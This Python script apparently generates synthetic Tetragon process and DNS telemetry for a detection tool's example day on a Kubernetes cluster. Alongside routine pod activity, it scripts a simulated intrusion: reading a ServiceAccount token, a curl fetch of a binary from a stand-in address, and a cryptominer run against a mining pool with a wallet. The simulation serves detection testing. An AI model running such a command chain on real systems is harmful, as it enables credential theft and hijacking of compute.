"""The runtime half of the example day (called by generate.py): what Tetragon on the three nodes and a
DNS agent writing Vigil's native form would ship for the same cluster on 2024-03-12.

examples/runtime/tetragon.jsonl.gz Tetragon's JSON export: process_exec / process_exit, and kprobes for
                                  file writes and reads (__x64_sys_write, __x64_sys_read) and
                                  connections (tcp_connect), as its reference policies hook them.
examples/runtime/dns.jsonl        DNS queries and answers in Vigil's native form (vigil.runtime/v1).

Ordinary: nginx and php-fpm in the shop's web pods with exec readiness probes, image conversions run
through `sh -c`, calls to the payment provider; the ledger (Java) talking to its database and SQS and
reading its IRSA token; an init container waiting for the database with `nc -z`; the nightly backup
CronJob (pg_dump, gzip, aws s3 cp); aws-node listing iptables rules; logrotate on the nodes; Alice
debugging a web pod at 10:42 (a shell from runc, ps, cat of nginx.conf).

The attack, 14:40, in the first web pod: nginx spawns an interactive shell; the attacker reads the
ServiceAccount token, downloads a binary from a threat-listed address, makes it executable, runs it (a
miner: stratum URL), the miner resolves a mining pool and beacons to a C&C address.
"""
import base64
import gzip
import hashlib
import json
import random
from datetime import timedelta

rng = random.Random(20240313)
STARTED = {}
lines = []
dns_lines = []


def stamp(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def exec_id(node, pid, t):
    return base64.b64encode(f"{node}:{int(t.timestamp() * 1e9)}:{pid}".encode()).decode()


class Container:
    def __init__(self, node, namespace, pod, name, image, started):
        self.node, self.namespace, self.pod, self.name, self.image = node, namespace, pod, name, image
        self.id = hashlib.sha256(f"{pod}/{name}".encode()).hexdigest()
        self.started = started

    def pod_json(self):
        return {"namespace": self.namespace, "name": self.pod,
                "container": {"id": f"containerd://{self.id}", "name": self.name,
                              "image": {"id": f"{self.image.split(':')[0]}@sha256:{hashlib.sha256(self.image.encode()).hexdigest()}",
                                        "name": self.image},
                              "start_time": self.started.strftime("%Y-%m-%dT%H:%M:%SZ")}}


class Process:
    def __init__(self, node, binary, args, parent, t, container=None, uid=0, cwd="/"):
        self.node, self.binary, self.args, self.parent, self.container = node, binary, args, parent, container
        self.pid = rng.randint(1000, 400000)
        self.start = t
        self.uid, self.cwd = uid, cwd
        self.exec_id = exec_id(node, self.pid, t)

    def json(self):
        p = {"exec_id": self.exec_id, "pid": self.pid, "uid": self.uid, "cwd": self.cwd, "binary": self.binary,
             "flags": "execve clone", "start_time": stamp(self.start), "auid": 4294967295}
        if self.args:
            p["arguments"] = self.args
        if self.container:
            p["pod"] = self.container.pod_json()
            p["docker"] = self.container.id[:31]
        if self.parent:
            p["parent_exec_id"] = self.parent.exec_id
        return p


def emit(kind, body, node, t):
    lines.append((t, {kind: body, "node_name": node, "time": stamp(t)}))


def run(binary, args, parent, t, container=None, uid=0, exit_after=None):
    """process_exec (and process_exit a moment later) of a new process."""
    process = Process(parent.node if parent else container.node, binary, args, parent, t, container or
                      (parent.container if parent else None), uid)
    body = {"process": process.json()}
    if parent:
        body["parent"] = parent.json()
    emit("process_exec", body, process.node, t)
    if exit_after is not None:
        done = t + timedelta(milliseconds=exit_after)
        emit("process_exit", {"process": process.json(), "parent": parent.json() if parent else None,
                              "status": 0, "time": stamp(done)}, process.node, done)
    return process


def kprobe(process, function, args, t):
    body = {"process": process.json(), "function_name": function, "args": args, "action": "KPROBE_ACTION_POST"}
    if process.parent:
        body["parent"] = process.parent.json()
    emit("process_kprobe", body, process.node, t)


def write_file(process, path, t):
    kprobe(process, "__x64_sys_write", [{"file_arg": {"path": path.lstrip("/")}}, {"bytes_arg": ""}, {"size_arg": "4096"}], t)


def read(process, path, t):
    kprobe(process, "__x64_sys_read", [{"file_arg": {"path": path.lstrip("/")}}, {"truncated_bytes_arg": ""}, {"size_arg": "1024"}], t)


def connect(process, daddr, dport, t, saddr="10.0.1.40"):
    kprobe(process, "tcp_connect", [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                                                  "saddr": saddr, "daddr": daddr, "sport": rng.randint(32768, 60999),
                                                  "dport": dport}}], t)


def dns(process, query, answers, t):
    c = process.container
    event = {"schema": "vigil.runtime/v1", "time": stamp(t), "kind": "dns_query", "node": process.node,
             "process": {"pid": process.pid, "exec_id": process.exec_id, "binary": process.binary},
             "dns": {"query": query, "answers": answers}}
    if c:
        event["container"] = {"id": f"containerd://{c.id}", "name": c.name, "image": c.image,
                              "started_at": c.started.strftime("%Y-%m-%dT%H:%M:%SZ")}
        event["pod"] = {"name": c.pod, "namespace": c.namespace}
    dns_lines.append((t, event))


def write_files():
    lines.sort(key=lambda pair: pair[0])
    dns_lines.sort(key=lambda pair: pair[0])
    # Gzipped, as log shippers write exports to object storage (and 20 times smaller in the repository).
    with gzip.GzipFile("examples/runtime/tetragon.jsonl.gz", "wb", mtime=0) as out:
        for _, e in lines:
            out.write((json.dumps(e, separators=(",", ":")) + "\n").encode())
    with open("examples/runtime/dns.jsonl", "w") as out:
        for _, e in dns_lines:
            out.write(json.dumps(e, separators=(",", ":")) + "\n")
    print(f"{len(lines)} Tetragon events, {len(dns_lines)} DNS events")


def generate(day, nodes, shop_ecr, web_pods, web_pods_later, ledger_pods):
    """Writes both files for the pods generate.py created."""
    end = day + timedelta(days=1)
    shim = {n: Process(n, "/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io -address /run/containerd/containerd.sock",
                       None, day - timedelta(days=3)) for n in nodes}

    def start_pod(node, namespace, pod, name, image, at, binary, args):
        container = Container(node, namespace, pod, name, image, at)
        init = run(binary, args, shim[node], at, container)
        return container, init

    web_early = [start_pod(nodes[i % 3], "shop", pod, "web", f"{shop_ecr}/shop/web:2024.03.12-1",
                           day + timedelta(hours=9, minutes=30, seconds=4 + i), "/usr/sbin/nginx", "-g daemon off;")
                 for i, pod in enumerate(web_pods)]
    web_late = [start_pod(nodes[i % 3], "shop", pod, "web", f"{shop_ecr}/shop/web:2024.03.12-2",
                          day + timedelta(hours=15, minutes=5, seconds=4 + i), "/usr/sbin/nginx", "-g daemon off;")
                for i, pod in enumerate(web_pods_later)]
    # Pods of the web Deployment before the day's first rollout: the inventory never saw them created.
    web_night = [start_pod(nodes[i % 3], "shop", f"web-5c4b8d7f9-{p}", "web", f"{shop_ecr}/shop/web:2024.03.11-3",
                           day - timedelta(hours=10), "/usr/sbin/nginx", "-g daemon off;")
                 for i, p in enumerate(["h2k9w", "q8m4z", "t6v2x"])]
    ledger = []
    for i, pod in enumerate(ledger_pods):
        at = day + timedelta(hours=11, minutes=20, seconds=2 + i)
        container = Container(nodes[(i + 1) % 3], "payments", pod, "wait-for-db", "busybox:1.36", at)
        waiter = run("/bin/nc", "-z -w 2 ledger-db.payments.svc.cluster.local 5432", shim[container.node], at,
                     container, exit_after=900)
        connect(waiter, "10.0.200.17", 5432, at + timedelta(milliseconds=100))
        ledger.append(start_pod(container.node, "payments", pod, "ledger", f"{shop_ecr}/payments/ledger:7.2.0",
                                at + timedelta(seconds=2), "/usr/lib/jvm/java-17-amazon-corretto/bin/java",
                                "-XX:+UseG1GC -jar /app/ledger.jar"))
    aws_node = [start_pod(n, "kube-system", f"aws-node-{p}", "aws-node",
                          "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.16.0-eksbuild.1",
                          day + timedelta(hours=3, minutes=10, seconds=20 * i), "/app/aws-vpc-cni", "")
                for i, (n, p) in enumerate(zip(nodes, ["b7m2q", "k4x9z", "r2w8c"]))]

    t = day
    while t < end:
        web = web_early if day + timedelta(hours=9, minutes=30) <= t < day + timedelta(hours=15, minutes=5) else (
            web_late if t >= day + timedelta(hours=15, minutes=5) else web_night)
        for container, nginx in web:
            at = t + timedelta(seconds=rng.randint(0, 240))
            # kubelet's exec readiness probe: runc starts `sh -c wget ...` in the container.
            runc = Process(container.node, "/usr/bin/runc", f"--root /run/containerd/runc/k8s.io exec {container.id[:12]}",
                           shim[container.node], at, None)
            probe = run("/bin/sh", "-c wget -q -O- http://127.0.0.1:8080/healthz", runc, at, container, exit_after=30)
            wget = run("/usr/bin/wget", "-q -O- http://127.0.0.1:8080/healthz", probe, at + timedelta(milliseconds=5),
                       exit_after=20)
            connect(wget, "127.0.0.1", 8080, at + timedelta(milliseconds=8), saddr="127.0.0.1")
            if rng.random() < 0.5:
                fpm = run("/usr/local/sbin/php-fpm", "pool www", nginx, at + timedelta(seconds=1), exit_after=2000)
                if rng.random() < 0.4:
                    conv = run("/bin/sh", f"-c /usr/bin/convert /tmp/upload-{rng.randint(1000, 9999)}.png -resize 800x /var/www/media/thumb.webp",
                               fpm, at + timedelta(seconds=1, milliseconds=200), exit_after=400)
                    write_file(conv, f"/var/www/media/thumb-{rng.randint(1000, 9999)}.webp", at + timedelta(seconds=1, milliseconds=500))
                dns(fpm, "api.stripe.com", ["54.187.174.169"], at + timedelta(seconds=1, milliseconds=300))
                connect(fpm, "54.187.174.169", 443, at + timedelta(seconds=1, milliseconds=350))
                connect(fpm, "10.0.200.31", 3306, at + timedelta(seconds=1, milliseconds=400))
        for container, java in ledger:
            if t < container.started:
                continue
            at = t + timedelta(seconds=rng.randint(0, 240))
            dns(java, "ledger-db.cluster-c9x2k1.us-east-1.rds.amazonaws.com", ["10.0.200.17"], at)
            connect(java, "10.0.200.17", 5432, at + timedelta(milliseconds=20))
            if rng.random() < 0.5:
                dns(java, "sqs.us-east-1.amazonaws.com", ["3.236.169.195"], at + timedelta(seconds=2))
                connect(java, "3.236.169.195", 443, at + timedelta(seconds=2, milliseconds=30))
            if rng.random() < 0.1:
                read(java, "/var/run/secrets/eks.amazonaws.com/serviceaccount/token", at + timedelta(seconds=3))
        for container, cni in aws_node:
            if t < container.started:
                continue
            at = t + timedelta(seconds=rng.randint(0, 240))
            run("/usr/sbin/iptables-legacy", "-w 5 -t nat -S AWS-SNAT-CHAIN-0", cni, at, exit_after=15)
        t += timedelta(minutes=5)

    # The nightly backup CronJob.
    at = day + timedelta(hours=2)
    backup = Container(nodes[2], "payments", "ledger-backup-28505520-x4k2j", "backup", f"{shop_ecr}/payments/backup:3.1.0", at)
    sh = run("/bin/sh", "-c /scripts/backup.sh", shim[nodes[2]], at, backup)
    dump = run("/usr/bin/pg_dump", "-h ledger-db.payments.svc.cluster.local -U backup ledger", sh, at + timedelta(seconds=1),
               exit_after=40000)
    connect(dump, "10.0.200.17", 5432, at + timedelta(seconds=1, milliseconds=50))
    gz = run("/bin/gzip", "-c", sh, at + timedelta(seconds=1), exit_after=40000)
    write_file(gz, "/backup/ledger-2024-03-12.sql.gz", at + timedelta(seconds=41))
    aws = run("/usr/local/bin/aws", "s3 cp /backup/ledger-2024-03-12.sql.gz s3://shop-backups/ledger/", sh,
              at + timedelta(seconds=42), exit_after=3000)
    dns(aws, "shop-backups.s3.us-east-1.amazonaws.com", ["52.217.161.9"], at + timedelta(seconds=42, milliseconds=10))
    connect(aws, "52.217.161.9", 443, at + timedelta(seconds=42, milliseconds=30))

    # logrotate on every node at 03:00.
    for n in nodes:
        at = day + timedelta(hours=3)
        rotate = run("/usr/sbin/logrotate", "/etc/logrotate.conf", shim[n].parent or Process(n, "/usr/lib/systemd/systemd", "--system", None, day - timedelta(days=3)), at, exit_after=500)
        kprobe(rotate, "__x64_sys_unlinkat", [{"int_arg": -100}, {"file_arg": {"path": "var/log/messages.4.gz"}}], at + timedelta(milliseconds=100))

    # Alice debugs a web pod at 10:42 (the audit log's exec): a shell from runc, a few look-arounds.
    container, nginx = web_early[1]
    at = day + timedelta(hours=10, minutes=42, seconds=1)
    runc = Process(container.node, "/usr/bin/runc", f"--root /run/containerd/runc/k8s.io exec --tty {container.id[:12]}",
                   shim[container.node], at, None)
    shell = run("/bin/sh", "", runc, at, container)
    for i, (binary, args) in enumerate([("/bin/ps", "aux"), ("/bin/cat", "/etc/nginx/nginx.conf"),
                                        ("/usr/bin/wget", "-q -O- http://127.0.0.1:8080/metrics")]):
        run(binary, args, shell, at + timedelta(seconds=10 + 15 * i), exit_after=50)

    # ---------------------------------------------------------------- the attack, 14:40
    container, nginx = web_early[0]
    at = day + timedelta(hours=14, minutes=40)
    shell = run("/bin/sh", "", nginx, at)
    run("/usr/bin/id", "", shell, at + timedelta(seconds=4), exit_after=5)
    run("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", shell, at + timedelta(seconds=9), exit_after=5)
    curl = run("/usr/bin/curl", "-s -o /tmp/kworker http://203.0.113.70/kworker", shell, at + timedelta(seconds=20),
               exit_after=1500)
    connect(curl, "203.0.113.70", 80, at + timedelta(seconds=20, milliseconds=40))
    write_file(curl, "/tmp/kworker", at + timedelta(seconds=21))
    run("/bin/chmod", "+x /tmp/kworker", shell, at + timedelta(seconds=30), exit_after=3)
    miner = run("/tmp/kworker", "-o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1",
                shell, at + timedelta(seconds=35))
    dns(miner, "pool.supportxmr.com", ["141.94.96.71"], at + timedelta(seconds=36))
    connect(miner, "141.94.96.71", 3333, at + timedelta(seconds=36, milliseconds=200))
    connect(miner, "198.51.100.200", 443, at + timedelta(seconds=40))

    write_files()

